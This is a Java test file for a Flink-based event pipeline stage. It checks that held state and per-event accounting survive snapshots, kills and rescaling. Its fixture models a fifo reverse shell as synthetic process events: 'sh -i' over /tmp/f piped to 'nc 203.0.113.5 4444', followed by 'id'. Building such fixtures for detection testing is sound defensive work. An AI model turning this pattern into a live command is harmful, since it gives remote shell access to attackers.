/*
 * SPDX-License-Identifier: Apache-2.0
 * Copyright The Acheron Authors
 */
package io.acheron.pipeline.refine;

import static org.assertj.core.api.Assertions.assertThat;

import io.acheron.pipeline.held.WriteBehindOperator;
import io.acheron.pipeline.ledger.Accounting;
import io.acheron.pipeline.refine.Scene.Actor;
import io.acheron.pipeline.status.StatusRecord;
import io.acheron.schema.codec.SingleObject;
import io.acheron.schema.codec.UndecodableRecordException;
import io.acheron.schema.event.Descriptor;
import io.acheron.schema.event.Event;
import io.acheron.schema.state.HostArrivals;
import io.acheron.schema.status.Ledger;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.function.Function;
import java.util.stream.Stream;
import org.apache.flink.api.common.typeinfo.Types;
import org.apache.flink.runtime.checkpoint.CheckpointOptions;
import org.apache.flink.runtime.checkpoint.OperatorSubtaskState;
import org.apache.flink.runtime.state.KeyGroupRangeAssignment;
import org.apache.flink.runtime.state.StateBackend;
import org.apache.flink.runtime.state.hashmap.HashMapStateBackend;
import org.apache.flink.runtime.state.memory.MemCheckpointStreamFactory;
import org.apache.flink.state.rocksdb.EmbeddedRocksDBStateBackend;
import org.apache.flink.streaming.api.operators.OperatorSnapshotFinalizer;
import org.apache.flink.streaming.api.operators.OperatorSnapshotFutures;
import org.apache.flink.streaming.runtime.streamrecord.StreamRecord;
import org.apache.flink.streaming.util.AbstractStreamOperatorTestHarness;
import org.apache.flink.streaming.util.KeyedOneInputStreamOperatorTestHarness;
import org.apache.flink.util.OutputTag;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/** A stage that was killed, or whose hosts moved, goes on from its snapshot as if nothing had happened: what it held was in there. */
class RefineRestoreTest {
    private static final int KEY_GROUPS = 16;
    private static final int HOSTS = 12;

    record Backend(String name, StateBackend backend) {
        @Override
        public String toString() {
            return name;
        }
    }

    static Stream<Backend> backends() {
        return Stream.of(
                new Backend("heap", new HashMapStateBackend()),
                new Backend("RocksDB", new EmbeddedRocksDBStateBackend()));
    }

    @ParameterizedTest
    @MethodSource("backends")
    void shouldGoOnFromTheBarrierWhateverChangedBehindIt(Backend backend) throws Exception {
        List<Event> events = fleet();
        List<String> expected = uninterrupted(backend, events);
        for (int cut = 1; cut < events.size(); cut += events.size() / 4) {
            List<String> told = new ArrayList<>();
            OperatorSubtaskState snapshot;
            try (Stage killed = new Stage(backend, 1, 0, null)) {
                killed.send(events.subList(0, cut));
                told.addAll(killed.events());
                OperatorSnapshotFutures inTheBackground = killed.snapshot();
                // What comes while the backend still writes must not get into what it writes.
                killed.send(events.subList(cut, events.size()));
                snapshot = OperatorSnapshotFinalizer.create(inTheBackground).getJobManagerOwnedState();
            }
            try (Stage restored = new Stage(backend, 1, 0, snapshot)) {
                restored.send(events.subList(0, cut)); // all repeats
                restored.send(events.subList(cut, events.size()));
                told.addAll(restored.events());
                told.addAll(restored.arrivals());
            }
            assertThat(told).as("killed behind event %d", cut).containsExactlyInAnyOrderElementsOf(expected);
        }
    }

    @ParameterizedTest
    @MethodSource("backends")
    void shouldCountEachEventOnceWhateverWasCountedBehindTheBarrier(Backend backend) throws Exception {
        List<Event> events = fleet();
        int cut = events.size() / 2;
        List<String> expected;
        try (Stage stage = new Stage(backend, 1, 0, null)) {
            stage.send(events);
            expected = stage.accounts();
        }
        OperatorSubtaskState snapshot;
        try (Stage killed = new Stage(backend, 1, 0, null)) {
            killed.send(events.subList(0, cut));
            OperatorSnapshotFutures inTheBackground = killed.snapshot();
            killed.send(events.subList(cut, events.size()));
            snapshot = OperatorSnapshotFinalizer.create(inTheBackground).getJobManagerOwnedState();
        }
        try (Stage restored = new Stage(backend, 1, 0, snapshot)) {
            restored.send(events.subList(cut, events.size()));
            assertThat(restored.accounts()).containsExactlyInAnyOrderElementsOf(expected);
        }
    }

    @ParameterizedTest
    @MethodSource("backends")
    void shouldTakeWhatIsHeldOfAHostToTheSubtaskItMovesTo(Backend backend) throws Exception {
        List<Event> events = fleet();
        List<String> expected = uninterrupted(backend, events);
        int cut = events.size() / 2;
        List<String> told = new ArrayList<>();
        OperatorSubtaskState snapshot;
        try (Stage one = new Stage(backend, 1, 0, null)) {
            one.send(events.subList(0, cut));
            told.addAll(one.events());
            snapshot = OperatorSnapshotFinalizer.create(one.snapshot()).getJobManagerOwnedState();
        }
        for (int subtask = 0; subtask < 2; subtask++) {
            int number = subtask;
            OperatorSubtaskState part =
                    AbstractStreamOperatorTestHarness.repartitionOperatorState(snapshot, KEY_GROUPS, 1, 2, subtask);
            try (Stage half = new Stage(backend, 2, subtask, part)) {
                List<Event> its = events.subList(cut, events.size()).stream()
                        .filter(event -> KeyGroupRangeAssignment.assignKeyToParallelOperator(host(event), KEY_GROUPS, 2)
                                == number)
                        .toList();
                assertThat(its).as("hosts of subtask %d", subtask).isNotEmpty();
                half.send(its);
                told.addAll(half.events());
                told.addAll(half.arrivals());
            }
        }
        assertThat(told).containsExactlyInAnyOrderElementsOf(expected);
    }

    private static List<String> uninterrupted(Backend backend, List<Event> events) throws Exception {
        try (Stage stage = new Stage(backend, 1, 0, null)) {
            stage.send(events);
            List<String> told = new ArrayList<>(stage.events());
            told.addAll(stage.arrivals());
            return told;
        }
    }

    /** The same on each of several hosts, one event of each in turn: a shell that reaches a socket over a fifo, and its end. */
    private static List<Event> fleet() {
        Scene scene = new Scene();
        Actor login = scene.old(50, "/usr/bin/bash");
        Actor sh = scene.fork(login, 311);
        Actor nc = scene.fork(login, 312);
        Descriptor fifo = Scene.fifo(0, 99, "/tmp/f", true, false);
        scene.exec(sh, "/usr/bin/dash", List.of("sh", "-i"), fifo, Scene.pipeOut(1, 72), Scene.pipeOut(2, 72));
        Descriptor back = Scene.fifo(1, 99, "/tmp/f", false, true);
        scene.exec(nc, "/usr/bin/nc", List.of("nc", "203.0.113.5", "4444"), Scene.pipeIn(0, 72), back);
        scene.connect(nc, 3, Scene.remote(900));
        Actor id = scene.fork(sh, 313);
        scene.exec(id, "/usr/bin/id", List.of("id"));
        scene.exit(id);
        scene.exit(nc);
        List<Event> fleet = new ArrayList<>();
        for (Event event : scene.events) {
            for (int host = 0; host < HOSTS; host++) {
                Event copy = Event.newBuilder(event).build();
                copy.getHeader().setHostId("host-" + host);
                fleet.add(copy);
            }
        }
        return fleet;
    }

    private static String host(Event event) {
        return event.getHeader().getHostId();
    }

    /** A subtask of the stage. */
    private static final class Stage implements AutoCloseable {
        private static final long INTERVAL_MS = 60_000;
        private static final int LARGEST_SNAPSHOT = 16 << 20;

        private final KeyedOneInputStreamOperatorTestHarness<String, Event, Event> harness;

        Stage(Backend backend, int subtasks, int subtask, @Nullable OperatorSubtaskState state) throws Exception {
            harness = new KeyedOneInputStreamOperatorTestHarness<>(
                    new WriteBehindOperator<>(
                            new RefineFunction(new Accounting("refine", Duration.ofMillis(INTERVAL_MS)))),
                    RefineRestoreTest::host,
                    Types.STRING,
                    KEY_GROUPS,
                    subtasks,
                    subtask);
            harness.setStateBackend(backend.backend());
            harness.setProcessingTime(1);
            if (state != null) {
                harness.initializeState(state);
            }
            harness.open();
        }

        void send(List<Event> events) throws Exception {
            for (Event event : events) {
                harness.processElement(Event.newBuilder(event).build(), 0);
            }
        }

        OperatorSnapshotFutures snapshot() throws Exception {
            return harness.getOperator()
                    .snapshotState(
                            1,
                            1,
                            CheckpointOptions.forCheckpointWithDefaultLocation(),
                            new MemCheckpointStreamFactory(LARGEST_SNAPSHOT));
        }

        List<String> events() {
            return harness.extractOutputValues().stream().map(Event::toString).toList();
        }

        List<String> accounts() throws Exception {
            return told(StatusRecord.TAG, record -> decoded(record.value()));
        }

        List<String> arrivals() throws Exception {
            return told(RefineFunction.ARRIVALS, HostArrivals::toString);
        }

        private static String decoded(byte[] ledger) {
            try {
                return SingleObject.of(Ledger.class).decode(ledger).toString();
            } catch (UndecodableRecordException e) {
                throw new AssertionError("the stage tells nothing but its accounts", e);
            }
        }

        private <T> List<String> told(OutputTag<T> tag, Function<T, String> text) throws Exception {
            harness.setProcessingTime(2 * INTERVAL_MS);
            List<String> told = new ArrayList<>();
            for (StreamRecord<T> record : harness.getSideOutput(tag)) {
                told.add(text.apply(record.getValue()));
            }
            return told;
        }

        @Override
        public void close() throws Exception {
            harness.close();
        }
    }
}
